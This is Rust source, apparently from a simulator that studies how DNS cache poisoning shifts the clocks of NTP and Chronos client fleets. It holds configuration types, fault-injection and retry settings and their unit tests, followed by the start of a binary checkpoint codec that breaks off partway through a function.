/// sitting in a resolver cache for its (attacker-chosen, huge) TTL,
/// served to **every client** whose pool-generation round falls inside
/// that window. With [`FleetConfig::resolvers`] > 1,
/// [`FleetAttack::poisoned_resolvers`] bounds *which* caches the attacker
/// reached — the knob behind E16's fraction-of-resolvers-poisoned sweep.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct FleetAttack {
    /// When the poisoned entry lands in the cache(s).
    pub at: SimTime,
    /// TTL of the poisoned records, seconds (paper: 86 401).
    pub ttl_secs: u32,
    /// Malicious A records per poisoned response (paper: 89).
    pub farm_size: usize,
    /// The time shift the malicious farm serves, ns (paper: ±500 ms+).
    pub shift_ns: i64,
    /// How many of the fleet's resolvers the attacker poisoned: resolvers
    /// `0..k` carry the entry, the rest stay clean. `None` poisons every
    /// resolver (the single-resolver legacy semantics).
    pub poisoned_resolvers: Option<usize>,
}

impl FleetAttack {
    /// The paper's default: an 89-server farm, day-long TTL, shifting by
    /// `shift`, every resolver poisoned.
    pub fn paper_default(at: SimTime, shift: SimDuration) -> Self {
        FleetAttack {
            at,
            ttl_secs: 86_401,
            farm_size: 89,
            shift_ns: shift.as_nanos() as i64,
            poisoned_resolvers: None,
        }
    }

    /// The same attack landing in only the first `k` resolver caches.
    pub fn with_poisoned_resolvers(self, k: usize) -> Self {
        FleetAttack {
            poisoned_resolvers: Some(k),
            ..self
        }
    }

    /// Whether resolver `r` is in the poisoned subset.
    pub fn poisons_resolver(&self, r: usize) -> bool {
        self.poisoned_resolvers.is_none_or(|k| r < k)
    }

    /// The poison window in nanoseconds: `[at, at + ttl)`.
    pub fn window_ns(&self) -> (u64, u64) {
        let from = self.at.as_nanos();
        (
            from,
            from.saturating_add(u64::from(self.ttl_secs) * 1_000_000_000),
        )
    }
}

/// Per-tier fault probabilities: the network-quality knobs of a
/// [`FaultPlan`], resolved per tier so a "datacenter" tier can run clean
/// while a "last mile" tier loses packets.
#[derive(Debug, Clone, Copy, Default, PartialEq, Serialize, Deserialize)]
pub struct TierFaults {
    /// Probability that any single NTP sample (one server's response in a
    /// poll or panic round) is lost. Drawn per `(client, round, slot)`
    /// from the [`crate::rng::FaultLane::NtpSample`] /
    /// [`crate::rng::FaultLane::PanicSample`] substreams.
    pub ntp_loss: f64,
    /// Probability that any single DNS pool query SERVFAILs at the
    /// resolver (before the cache is consulted). Drawn per
    /// `(client, query)` from [`crate::rng::FaultLane::DnsQuery`].
    pub dns_servfail: f64,
}

impl TierFaults {
    /// Whether this tier injects any fault at all.
    pub fn is_inert(&self) -> bool {
        self.ntp_loss == 0.0 && self.dns_servfail == 0.0
    }
}

/// One resolver outage: the resolver answers nothing (neither cached nor
/// upstream) for `[start_ns, start_ns + duration_ns)` — except stale
/// serves when the plan's [`ServeStalePolicy`] allows them.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct OutageWindow {
    /// Outage start, nanoseconds of sim time.
    pub start_ns: u64,
    /// Outage length in nanoseconds (must be positive).
    pub duration_ns: u64,
}

impl OutageWindow {
    /// First nanosecond *after* the outage.
    pub fn end_ns(&self) -> u64 {
        self.start_ns.saturating_add(self.duration_ns)
    }

    /// Whether `t_ns` falls inside the outage.
    pub fn contains(&self, t_ns: u64) -> bool {
        t_ns >= self.start_ns && t_ns < self.end_ns()
    }
}

/// RFC 8767 serve-stale: when a resolver cannot refresh (outage) or fails
/// outright (SERVFAIL), it may answer from an *expired* cache entry for up
/// to `max_stale_secs` past that entry's expiry, instead of failing.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct ServeStalePolicy {
    /// Maximum staleness budget: an expired entry is served until
    /// `expiry + max_stale_secs` (RFC 8767 suggests 1–3 days; resolvers
    /// commonly configure far less).
    pub max_stale_secs: u64,
}

impl Default for ServeStalePolicy {
    fn default() -> Self {
        // A conservative hour — long enough to bridge short outages,
        // short against the paper's day-long poisoned TTLs.
        ServeStalePolicy {
            max_stale_secs: 3600,
        }
    }
}

/// Exponential backoff for plain-NTP boot resolution retries: attempt `k`
/// (0-based) that fails is retried after
/// `min(base · 2^k, cap) · (1 ± jitter·u)` where `u` is a uniform draw
/// from the client's [`crate::rng::FaultLane::RetryJitter`] substream.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct RetryPolicy {
    /// Delay after the first failure.
    pub base: SimDuration,
    /// Ceiling on the un-jittered delay.
    pub cap: SimDuration,
    /// Relative jitter amplitude in `[0, 1)`: the delay is scaled by a
    /// uniform factor in `[1 − jitter, 1 + jitter)`.
    pub jitter: f64,
    /// Total resolution attempts (first try included). After the last
    /// failure the client gives up and runs with an empty pool.
    pub max_attempts: u32,
}

impl Default for RetryPolicy {
    fn default() -> Self {
        RetryPolicy {
            base: SimDuration::from_secs(4),
            cap: SimDuration::from_secs(256),
            jitter: 0.25,
            max_attempts: 8,
        }
    }
}

impl RetryPolicy {
    /// The jittered delay before retrying after failed attempt `attempt`
    /// (0-based), with `unit` the uniform `[0, 1)` jitter draw. Always at
    /// least 1 ns so retries advance sim time.
    pub fn delay_ns(&self, attempt: u32, unit: f64) -> u64 {
        let base = self.base.as_nanos() as f64;
        let cap = self.cap.as_nanos() as f64;
        let raw = (base * 2f64.powi(attempt.min(63) as i32)).min(cap);
        let scaled = raw * (1.0 + self.jitter * (2.0 * unit - 1.0));
        (scaled as u64).max(1)
    }
}

/// The fleet's deterministic fault-injection plan. The default plan is
/// *inert*: no losses, no SERVFAILs, no outages — and, by the stateless
/// substream construction in [`crate::rng`], an inert plan reproduces a
/// fault-free fleet byte for byte.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct FaultPlan {
    /// Fault probabilities applied to every tier without a per-tier
    /// override in `tiers`.
    pub all_tiers: TierFaults,
    /// Per-tier overrides, indexed like [`FleetConfig::tiers`] (entries
    /// beyond this list fall back to `all_tiers`).
    pub tiers: Vec<TierFaults>,
    /// Outage windows per resolver id (index `r` lists resolver `r`'s
    /// outages, sorted and non-overlapping; resolvers beyond the list
    /// never go down).
    pub outages: Vec<Vec<OutageWindow>>,
    /// Serve-stale behaviour during outages and SERVFAILs. `None`: a
    /// resolver that cannot answer fresh fails the query.
    pub serve_stale: Option<ServeStalePolicy>,
    /// Backoff schedule for plain-NTP boot-resolution retries (Chronos
    /// lanes own their retry machinery via `chronos::core`).
    pub retry: RetryPolicy,
}

impl FaultPlan {
    /// The fault probabilities for tier index `t`.
    pub fn tier_faults(&self, t: usize) -> TierFaults {
        self.tiers.get(t).copied().unwrap_or(self.all_tiers)
    }

    /// The outage windows of resolver `r` (empty when none configured).
    pub fn resolver_outages(&self, r: usize) -> &[OutageWindow] {
        self.outages.get(r).map(Vec::as_slice).unwrap_or(&[])
    }

    /// Whether the plan injects no fault at all — the byte-identical
    /// legacy mode.
    pub fn is_inert(&self) -> bool {
        self.all_tiers.is_inert()
            && self.tiers.iter().all(TierFaults::is_inert)
            && self.outages.iter().all(Vec::is_empty)
    }

    /// Whether a DNS query by a tier-`t` client against resolver `r` can
    /// ever fail to produce a fresh answer — the gate deciding whether a
    /// plain-NTP client gets a retry schedule.
    pub fn dns_can_fail(&self, t: usize, r: usize) -> bool {
        self.tier_faults(t).dns_servfail > 0.0 || !self.resolver_outages(r).is_empty()
    }

    fn validate(&self, resolvers: usize, tier_count: usize) {
        let check_probs = |f: &TierFaults, what: &str| {
            assert!(
                f.ntp_loss.is_finite() && (0.0..=1.0).contains(&f.ntp_loss),
                "{what} ntp_loss {} outside [0, 1]",
                f.ntp_loss
            );
            assert!(
                f.dns_servfail.is_finite() && (0.0..=1.0).contains(&f.dns_servfail),
                "{what} dns_servfail {} outside [0, 1]",
                f.dns_servfail
            );
        };
        check_probs(&self.all_tiers, "fault plan");
        assert!(
            self.tiers.len() <= tier_count,
            "fault plan overrides {} tiers but the fleet has {tier_count}",
            self.tiers.len()
        );
        for (t, f) in self.tiers.iter().enumerate() {
            check_probs(f, &format!("tier {t}"));
        }
        assert!(
            self.outages.len() <= resolvers,
            "outage windows for {} resolvers but the fleet has {resolvers}",
            self.outages.len()
        );
        for (r, windows) in self.outages.iter().enumerate() {
            let mut prev_end = 0u64;
            for w in windows {
                assert!(w.duration_ns > 0, "resolver {r}: zero-length outage");
                assert!(
                    w.start_ns >= prev_end,
                    "resolver {r}: outage windows must be sorted and non-overlapping"
                );
                prev_end = w.end_ns();
            }
        }
        if let Some(stale) = &self.serve_stale {
            assert!(stale.max_stale_secs > 0, "zero serve-stale budget");
        }
        assert!(
            (1..=32).contains(&self.retry.max_attempts),
            "retry max_attempts {} outside 1..=32",
            self.retry.max_attempts
        );
        assert!(
            self.retry.jitter.is_finite() && (0.0..1.0).contains(&self.retry.jitter),
            "retry jitter {} outside [0, 1)",
            self.retry.jitter
        );
        assert!(!self.retry.base.is_zero(), "retry base delay must be > 0");
        assert!(
            self.retry.cap >= self.retry.base,
            "retry cap below base delay"
        );
    }
}

/// Configuration of a client population run.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FleetConfig {
    /// Fleet RNG seed; every client stream derives from it and the
    /// client's global id.
    pub seed: u64,
    /// Number of clients simulated.
    pub clients: usize,
    /// Global id of the first client. A fleet of N clients starting at id
    /// G steps clients G..G+N identically to any other slicing that covers
    /// them — the hook the equivalence proptests pin.
    pub first_client_id: u64,
    /// The Chronos parameters every client runs (pool cadence, sampling,
    /// §V mitigation knobs — all honoured) unless its tier overrides them.
    pub chronos: ChronosConfig,
    /// Population tiers (client kind, share, per-tier overrides — see
    /// [`CohortTier`]). Empty means the homogeneous legacy fleet: one
    /// implicit all-Chronos tier running the fleet-level `chronos` config.
    /// Clients map onto tiers by the balanced
    /// [`crate::cohort::TierAssignment`] pattern over their global ids.
    pub tiers: Vec<CohortTier>,
    /// Number of independent resolvers the fleet's clients hash onto
    /// (each with its own rotation phase, TTL draw and poisoned-or-not
    /// flag — see [`crate::resolver::ResolverModel::for_resolver`]).
    /// `1` (the default) reproduces the single-resolver engine exactly.
    pub resolvers: usize,
    /// Size of the benign server universe behind the pool rotation. Must
    /// be a multiple of `per_response` and at most `64 × per_response`.
    pub universe: usize,
    /// Addresses per benign DNS response (pool.ntp.org serves 4).
    pub per_response: usize,
    /// TTL of benign pool records (the shared cache holds one batch this
    /// long; pool.ntp.org uses 150 s).
    pub benign_ttl: SimDuration,
    /// Benign server clock imperfection: max |offset| in ms (per-sample
    /// mean-field draw).
    pub benign_offset_ms: u64,
    /// Max |drift| of a client's local clock, ppm (drawn per client).
    pub client_drift_ppm: f64,
    /// Standard deviation of per-sample path noise.
    pub jitter_std: SimDuration,
    /// Clients start pool generation staggered uniformly over this span
    /// (real fleets boot at independent times).
    pub stagger: SimDuration,
    /// `true`: all clients share one resolver cache (one poisoning hits
    /// everyone; benign batches are cached across clients). `false`: every
    /// client resolves independently — the mode where fleet members are
    /// provably independent of each other.
    pub shared_cache: bool,
    /// The attack, if any.
    pub attack: Option<FleetAttack>,
    /// Deterministic fault injection: per-tier loss/SERVFAIL
    /// probabilities, resolver outage windows, serve-stale policy and the
    /// plain-NTP retry schedule. The default plan is inert and reproduces
    /// the fault-free engine byte for byte.
    pub faults: FaultPlan,
    /// A client counts as *shifted* when |clock error| exceeds this bound
    /// (the paper's 100 ms safety bound).
    pub safety_bound: SimDuration,
    /// Cadence of the fraction-shifted time series.
    pub sample_every: SimDuration,
    /// Record per-client offset trajectories (small fleets / tests only:
    /// this is the memory cost the aggregate outputs exist to avoid).
    pub record_trajectories: bool,
    /// Default run length for [`crate::engine::Fleet::run`].
    pub horizon: SimDuration,
    /// Worker threads stepping shards inside one
    /// [`crate::engine::Fleet::run_until`] call: `1` (the default) steps
    /// shards sequentially on the calling thread, `0` uses every available
    /// core. A pure wall-clock knob — results are byte-identical for every
    /// value, which the determinism proptests pin.
    pub threads: usize,
    /// Clients per shard, the unit of intra-fleet parallelism. Per-client
    /// outcomes and the counting aggregates (histogram bins, shifted
    /// series, totals) are shard-layout-invariant; only the streaming P²
    /// quantile *estimates* depend on the decomposition (each shard feeds
    /// its own estimator and the report merges them in shard order), so
    /// quantiles are comparable across runs at equal `shard_size` only.
    pub shard_size: usize,
}

/// Default clients per shard: small enough that a 100k-client fleet yields
/// ~25 stealable work units for a handful of cores, large enough that the
/// fixed per-shard machinery (a timer wheel's slot arrays, scratch
/// buffers) stays well under 1 % of the column footprint.
pub const DEFAULT_SHARD_SIZE: usize = 4096;

impl Default for FleetConfig {
    fn default() -> Self {
        FleetConfig {
            seed: 1,
            clients: 10_000,
            first_client_id: 0,
            tiers: Vec::new(),
            resolvers: 1,
            chronos: ChronosConfig {
                poll_interval: SimDuration::from_secs(64),
                pool: PoolGenConfig {
                    queries: 12,
                    query_interval: SimDuration::from_secs(200),
                    ..PoolGenConfig::default()
                },
                ..ChronosConfig::default()
            },
            universe: 240,
            per_response: POOL_ADDRS_PER_RESPONSE,
            benign_ttl: SimDuration::from_secs(u64::from(POOL_NTP_TTL)),
            benign_offset_ms: 2,
            client_drift_ppm: 10.0,
            jitter_std: SimDuration::from_micros(500),
            stagger: SimDuration::from_secs(200),
            shared_cache: true,
            attack: None,
            faults: FaultPlan::default(),
            safety_bound: SimDuration::from_millis(100),
            sample_every: SimDuration::from_secs(60),
            record_trajectories: false,
            horizon: SimDuration::from_secs(4_000),
            threads: 1,
            shard_size: DEFAULT_SHARD_SIZE,
        }
    }
}

/// Upper bound on [`FleetConfig::resolvers`]: resolver ids live in a u16
/// state column.
pub const MAX_RESOLVERS: usize = u16::MAX as usize + 1;

impl FleetConfig {
    /// Rotation batches in the benign universe.
    pub fn rotation_batches(&self) -> usize {
        self.universe / self.per_response
    }

    /// The tier list with the empty-tiers default resolved: either the
    /// configured tiers, or the one implicit all-Chronos tier (labelled
    /// `"chronos"`, share 1) every pre-cohort fleet ran.
    pub fn effective_tiers(&self) -> Vec<TierParams> {
        let mut tiers = if self.tiers.is_empty() {
            vec![TierParams::resolve(
                &crate::cohort::CohortTier::chronos("chronos", 1),
                &self.chronos,
            )]
        } else {
            self.tiers
                .iter()
                .map(|t| TierParams::resolve(t, &self.chronos))
                .collect()
        };
        for (t, params) in tiers.iter_mut().enumerate() {
            params.faults = self.faults.tier_faults(t);
        }
        tiers
    }

    /// Validates internal consistency.
    ///
    /// # Panics
    ///
    /// Panics when the configuration cannot be simulated: zero clients, a
    /// universe that is not a whole number of response batches (or more
    /// than 64 of them — the per-client dedup bitmap's width), or an
    /// inconsistent Chronos config.
    pub fn validate(&self) {
        assert!(self.clients > 0, "a fleet needs at least one client");
        assert!(self.per_response > 0, "responses must carry addresses");
        assert!(
            self.universe.is_multiple_of(self.per_response),
            "universe {} must be a multiple of per_response {}",
            self.universe,
            self.per_response
        );
        assert!(
            self.rotation_batches() >= 1 && self.rotation_batches() <= 64,
            "rotation batches {} outside the 1..=64 dedup-bitmap range",
            self.rotation_batches()
        );
        assert!(
            !self.sample_every.is_zero(),
            "sample cadence must be positive"
        );
        assert!(self.shard_size > 0, "shards need at least one client");
        assert!(
            self.resolvers >= 1 && self.resolvers <= MAX_RESOLVERS,
            "resolver count {} outside 1..={MAX_RESOLVERS} (u16 column)",
            self.resolvers
        );
        assert!(self.tiers.len() <= 255, "at most 255 tiers (u8 column)");
        for tier in &self.tiers {
            assert!(tier.share >= 1, "tier '{}' has zero share", tier.label);
            match tier.kind {
                crate::cohort::ClientKind::PlainNtp | crate::cohort::ClientKind::Nts => {
                    assert!(
                        tier.pool_size.is_none_or(|n| n >= 1),
                        "tier '{}' keeps zero servers",
                        tier.label
                    );
                }
                crate::cohort::ClientKind::Roughtime => {
                    let m = tier
                        .sources
                        .unwrap_or(crate::cohort::ROUGHTIME_DEFAULT_SOURCES);
                    assert!(
                        (1..=crate::cohort::ROUGHTIME_MAX_SOURCES).contains(&m),
                        "roughtime tier '{}' wants {m} sources, outside 1..={} \
                         (u32 source-mask column)",
                        tier.label,
                        crate::cohort::ROUGHTIME_MAX_SOURCES
                    );
                }
                crate::cohort::ClientKind::Chronos => {}
            }
            if tier.kind == crate::cohort::ClientKind::Nts {
                assert!(
                    tier.key_lifetime.is_none_or(|d| !d.is_zero()),
                    "nts tier '{}' has a zero key lifetime",
                    tier.label
                );
                assert!(
                    tier.rekey_interval.is_none_or(|d| !d.is_zero()),
                    "nts tier '{}' has a zero re-key interval",
                    tier.label
                );
            }
        }
        for params in self.effective_tiers() {
            params.chronos.validate();
        }
        self.chronos.validate();
        self.faults.validate(
            self.resolvers,
            if self.tiers.is_empty() {
                1
            } else {
                self.tiers.len()
            },
        );
    }

    /// Resolved intra-fleet worker count: `threads`, with `0` mapped to
    /// the machine's available parallelism.
    pub fn effective_threads(&self) -> usize {
        if self.threads == 0 {
            netsim::par::default_threads()
        } else {
            self.threads
        }
    }

    /// A seed-independent hash of the configuration *shape*: two configs
    /// with equal fingerprints differ at most in `seed` or `threads`, so
    /// their fleets are interchangeable containers for pooling (same
    /// client count, same columns — only the streams re-derive on reset,
    /// and the thread count never changes results).
    pub fn structural_fingerprint(&self) -> u64 {
        let mut shape = self.clone();
        shape.seed = 0;
        shape.threads = 0;
        netsim::pool::fingerprint_str(&format!("{shape:?}"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_config_validates() {
        let cfg = FleetConfig::default();
        cfg.validate();
        assert_eq!(cfg.rotation_batches(), 60);
    }

    #[test]
    fn fingerprint_ignores_seed_and_threads_only() {
        let a = FleetConfig::default();
        let b = FleetConfig {
            seed: 999,
            threads: 8,
            ..FleetConfig::default()
        };
        let c = FleetConfig {
            clients: 11,
            ..FleetConfig::default()
        };
        let d = FleetConfig {
            shard_size: 128,
            ..FleetConfig::default()
        };
        assert_eq!(a.structural_fingerprint(), b.structural_fingerprint());
        assert_ne!(a.structural_fingerprint(), c.structural_fingerprint());
        assert_ne!(
            a.structural_fingerprint(),
            d.structural_fingerprint(),
            "shard size shapes the quantile stream, so it is structural"
        );
        // The cohort knobs are structural too: a different tier mix or
        // resolver count is a different simulation.
        let tiered = FleetConfig {
            tiers: vec![
                crate::cohort::CohortTier::chronos("chronos", 3),
                crate::cohort::CohortTier::plain_ntp("plain", 1),
            ],
            ..FleetConfig::default()
        };
        let multi_resolver = FleetConfig {
            resolvers: 8,
            ..FleetConfig::default()
        };
        assert_ne!(a.structural_fingerprint(), tiered.structural_fingerprint());
        assert_ne!(
            a.structural_fingerprint(),
            multi_resolver.structural_fingerprint()
        );
    }

    #[test]
    fn effective_tiers_default_to_one_chronos_tier() {
        let cfg = FleetConfig::default();
        let tiers = cfg.effective_tiers();
        assert_eq!(tiers.len(), 1);
        assert_eq!(tiers[0].label, "chronos");
        assert_eq!(tiers[0].kind, crate::cohort::ClientKind::Chronos);
        assert_eq!(tiers[0].chronos, cfg.chronos, "inherits the fleet config");
    }

    #[test]
    #[should_panic(expected = "resolver count")]
    fn zero_resolvers_rejected() {
        FleetConfig {
            resolvers: 0,
            ..FleetConfig::default()
        }
        .validate();
    }

    #[test]
    #[should_panic(expected = "zero share")]
    fn zero_tier_share_rejected() {
        let mut tier = crate::cohort::CohortTier::chronos("t", 1);
        tier.share = 0;
        FleetConfig {
            tiers: vec![tier],
            ..FleetConfig::default()
        }
        .validate();
    }

    #[test]
    fn threads_resolve_and_shard_size_validates() {
        let auto = FleetConfig {
            threads: 0,
            ..FleetConfig::default()
        };
        assert!(auto.effective_threads() >= 1);
        let fixed = FleetConfig {
            threads: 3,
            ..FleetConfig::default()
        };
        assert_eq!(fixed.effective_threads(), 3);
    }

    #[test]
    #[should_panic(expected = "at least one client")]
    fn zero_shard_size_rejected() {
        FleetConfig {
            shard_size: 0,
            ..FleetConfig::default()
        }
        .validate();
    }

    #[test]
    fn attack_window_is_ttl_long() {
        let attack =
            FleetAttack::paper_default(SimTime::from_secs(1000), SimDuration::from_millis(500));
        let (from, until) = attack.window_ns();
        assert_eq!(from, 1_000_000_000_000);
        assert_eq!(until - from, 86_401_000_000_000);
        assert_eq!(attack.farm_size, 89);
        assert_eq!(attack.shift_ns, 500_000_000);
    }

    #[test]
    fn default_fault_plan_is_inert_and_structural() {
        let plan = FaultPlan::default();
        assert!(plan.is_inert());
        assert!(!plan.dns_can_fail(0, 0));
        assert_eq!(plan.tier_faults(5), TierFaults::default());
        assert!(plan.resolver_outages(3).is_empty());
        // The plan is part of the structural fingerprint: a faulty fleet
        // is never pooled into a fault-free container.
        let clean = FleetConfig::default();
        let faulty = FleetConfig {
            faults: FaultPlan {
                all_tiers: TierFaults {
                    ntp_loss: 0.05,
                    ..TierFaults::default()
                },
                ..FaultPlan::default()
            },
            ..FleetConfig::default()
        };
        faulty.validate();
        assert_ne!(
            clean.structural_fingerprint(),
            faulty.structural_fingerprint()
        );
    }

    #[test]
    fn retry_delays_double_to_the_cap_with_bounded_jitter() {
        let retry = RetryPolicy::default();
        // Centre draw (u = 0.5): pure exponential, capped.
        assert_eq!(retry.delay_ns(0, 0.5), 4_000_000_000);
        assert_eq!(retry.delay_ns(1, 0.5), 8_000_000_000);
        assert_eq!(retry.delay_ns(6, 0.5), 256_000_000_000, "hits the cap");
        assert_eq!(retry.delay_ns(30, 0.5), 256_000_000_000, "stays capped");
        // Jitter spans ±25 % around the centre.
        assert_eq!(retry.delay_ns(0, 0.0), 3_000_000_000);
        assert!(retry.delay_ns(0, 0.999) < 5_000_000_000);
        assert!(retry.delay_ns(0, 0.999) > 4_990_000_000);
        // Degenerate policies still advance time.
        let tiny = RetryPolicy {
            base: SimDuration::from_nanos(1),
            cap: SimDuration::from_nanos(1),
            jitter: 0.99,
            max_attempts: 1,
        };
        assert!(tiny.delay_ns(0, 0.0) >= 1);
    }

    #[test]
    fn outage_windows_cover_half_open_ranges() {
        let w = OutageWindow {
            start_ns: 100,
            duration_ns: 50,
        };
        assert_eq!(w.end_ns(), 150);
        assert!(!w.contains(99));
        assert!(w.contains(100));
        assert!(w.contains(149));
        assert!(!w.contains(150));
    }

    #[test]
    fn effective_tiers_stamp_per_tier_faults() {
        let cfg = FleetConfig {
            tiers: vec![
                crate::cohort::CohortTier::chronos("clean", 1),
                crate::cohort::CohortTier::plain_ntp("lossy", 1),
            ],
            faults: FaultPlan {
                all_tiers: TierFaults {
                    ntp_loss: 0.01,
                    dns_servfail: 0.0,
                },
                tiers: vec![
                    TierFaults::default(),
                    TierFaults {
                        ntp_loss: 0.15,
                        dns_servfail: 0.05,
                    },
                ],
                ..FaultPlan::default()
            },
            ..FleetConfig::default()
        };
        cfg.validate();
        let tiers = cfg.effective_tiers();
        assert!(tiers[0].faults.is_inert(), "explicit per-tier override");
        assert_eq!(tiers[1].faults.ntp_loss, 0.15);
        // Without per-tier overrides, every tier inherits `all_tiers`.
        let blanket = FleetConfig {
            tiers: cfg.tiers.clone(),
            faults: FaultPlan {
                all_tiers: TierFaults {
                    ntp_loss: 0.01,
                    dns_servfail: 0.0,
                },
                ..FaultPlan::default()
            },
            ..FleetConfig::default()
        };
        for t in blanket.effective_tiers() {
            assert_eq!(t.faults.ntp_loss, 0.01);
        }
    }

    #[test]
    #[should_panic(expected = "outside [0, 1]")]
    fn out_of_range_loss_rejected() {
        FleetConfig {
            faults: FaultPlan {
                all_tiers: TierFaults {
                    ntp_loss: 1.5,
                    dns_servfail: 0.0,
                },
                ..FaultPlan::default()
            },
            ..FleetConfig::default()
        }
        .validate();
    }

    #[test]
    #[should_panic(expected = "sorted and non-overlapping")]
    fn overlapping_outages_rejected() {
        FleetConfig {
            faults: FaultPlan {
                outages: vec![vec![
                    OutageWindow {
                        start_ns: 0,
                        duration_ns: 100,
                    },
                    OutageWindow {
                        start_ns: 50,
                        duration_ns: 100,
                    },
                ]],
                ..FaultPlan::default()
            },
            ..FleetConfig::default()
        }
        .validate();
    }

    #[test]
    #[should_panic(expected = "outage windows for")]
    fn outages_beyond_resolver_count_rejected() {
        FleetConfig {
            resolvers: 1,
            faults: FaultPlan {
                outages: vec![Vec::new(), Vec::new()],
                ..FaultPlan::default()
            },
            ..FleetConfig::default()
        }
        .validate();
    }

    #[test]
    #[should_panic(expected = "multiple of per_response")]
    fn ragged_universe_rejected() {
        FleetConfig {
            universe: 241,
            ..FleetConfig::default()
        }
        .validate();
    }

    #[test]
    #[should_panic(expected = "dedup-bitmap")]
    fn oversized_universe_rejected() {
        FleetConfig {
            universe: 400,
            ..FleetConfig::default()
        }
        .validate();
    }
}
