//! Checkpoint wire format: a versioned, hand-rolled binary codec.
//!
//! A long fleet run (`chronosd`'s reason to exist) must survive process
//! restarts: [`Fleet::checkpoint`](crate::engine::Fleet::checkpoint)
//! serializes the complete simulation state — the full [`FleetConfig`],
//! every struct-of-arrays client column, each shard's timer-wheel clock,
//! streaming aggregates (histogram bins, P² marker state) and sampling
//! cursor — and [`Fleet::restore`](crate::engine::Fleet::restore) rebuilds
//! a fleet that continues **byte-identically** to one that never stopped
//! (pinned by `tests/prop_checkpoint_resume.rs`).
//!
//! The format is deliberately explicit rather than derived: the vendored
//! `serde` is a no-op stub (see `crates/compat/serde`), and a hand-written
//! codec keeps the on-disk layout an auditable, versioned contract instead
//! of an accident of struct layout. Every float crosses the boundary via
//! [`f64::to_bits`]/[`f64::from_bits`], so restore is bit-exact — the
//! difference between "resume ≈ uninterrupted" and "resume ≡
//! uninterrupted".
//!
//! # Layout
//!
//! ```text
//! magic  b"CHR1"            4 bytes
//! version u32               currently 2
//! config  FleetConfig       self-delimiting field sequence
//! now_ns  u64               fleet clock at the snapshot
//! shards  u32 + per-shard   columns, wheel tick, aggregates
//! trailer u64               XOR-fold checksum of everything above
//! ```
//!
//! All integers are little-endian. Variable-length sequences are
//! length-prefixed (u32 for element counts, u64 for nanosecond values).
//! The per-shard encoding lives in `engine.rs` (the columns are private
//! to the engine); this module owns the primitive writer/reader, the
//! error type and the [`FleetConfig`] codec.

use crate::cohort::{ClientKind, CohortTier};
use crate::config::{
    FaultPlan, FleetAttack, FleetConfig, OutageWindow, RetryPolicy, ServeStalePolicy, TierFaults,
};
use chronos::config::{ChronosConfig, PoolGenConfig};
use netsim::time::{SimDuration, SimTime};

/// First bytes of every checkpoint.
pub const MAGIC: [u8; 4] = *b"CHR1";

/// Current format version. Bumped on any layout change; old versions are
/// rejected (a simulation checkpoint is a cache, not an archive format).
/// Version 2 added the E18 secure-tier state: NTS/Roughtime kind tags,
/// per-tier key-lifetime/re-key/sources knobs, and the per-client
/// association columns.
pub const VERSION: u32 = 2;

/// Why a checkpoint failed to decode.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CheckpointError {
    /// The buffer ended before the structure did.
    Truncated,
    /// The first four bytes are not [`MAGIC`] — not a checkpoint.
    BadMagic,
    /// A checkpoint from a different format version.
    BadVersion(u32),
    /// The trailing checksum does not match the payload.
    BadChecksum,
    /// Structurally well-formed but semantically impossible (an enum tag
    /// out of range, a column length that disagrees with the config, …).
    Corrupt(&'static str),
}

impl std::fmt::Display for CheckpointError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            CheckpointError::Truncated => write!(f, "checkpoint truncated"),
            CheckpointError::BadMagic => write!(f, "not a fleet checkpoint (bad magic)"),
            CheckpointError::BadVersion(v) => {
                write!(f, "unsupported checkpoint version {v} (expected {VERSION})")
            }
            CheckpointError::BadChecksum => write!(f, "checkpoint checksum mismatch"),
            CheckpointError::Corrupt(what) => write!(f, "corrupt checkpoint: {what}"),
        }
    }
}

impl std::error::Error for CheckpointError {}

/// Append-only byte sink for the checkpoint payload.
#[derive(Debug, Default)]
pub(crate) struct Writer {
    buf: Vec<u8>,
}

impl Writer {
    pub(crate) fn new() -> Writer {
        Writer { buf: Vec::new() }
    }

    /// Finalizes the payload: appends the XOR-fold checksum of every byte
    /// written so far and returns the buffer.
    pub(crate) fn finish(mut self) -> Vec<u8> {
        let sum = checksum(&self.buf);
        self.buf.extend_from_slice(&sum.to_le_bytes());
        self.buf
    }

    pub(crate) fn bytes(&mut self, b: &[u8]) {
        self.buf.extend_from_slice(b);
    }

    pub(crate) fn u8(&mut self, v: u8) {
        self.buf.push(v);
    }

    pub(crate) fn u16(&mut self, v: u16) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    pub(crate) fn u32(&mut self, v: u32) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    pub(crate) fn u64(&mut self, v: u64) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    pub(crate) fn i64(&mut self, v: i64) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    /// Bit-exact float encoding.
    pub(crate) fn f64(&mut self, v: f64) {
        self.u64(v.to_bits());
    }

    pub(crate) fn bool(&mut self, v: bool) {
        self.u8(u8::from(v));
    }

    /// Length-prefixed UTF-8.
    pub(crate) fn str(&mut self, s: &str) {
        self.u32(s.len() as u32);
        self.bytes(s.as_bytes());
    }

    /// Element-count prefix for a following sequence.
    pub(crate) fn len(&mut self, n: usize) {
        self.u32(u32::try_from(n).expect("checkpoint sequence longer than u32"));
    }
}

/// Cursor over a checkpoint payload; every read is bounds-checked.
#[derive(Debug)]
pub(crate) struct Reader<'a> {
    buf: &'a [u8],
    pos: usize,
}

impl<'a> Reader<'a> {
    pub(crate) fn new(buf: &'a [u8]) -> Reader<'a> {
        Reader { buf, pos: 0 }
    }

    /// Verifies the trailing checksum against everything before it and
    /// returns a reader over the payload (checksum excluded).
    pub(crate) fn verified(buf: &'a [u8]) -> Result<Reader<'a>, CheckpointError> {
        if buf.len() < 8 {
            return Err(CheckpointError::Truncated);
        }
        let (payload, trailer) = buf.split_at(buf.len() - 8);
        let stored = u64::from_le_bytes(trailer.try_into().expect("8-byte trailer"));
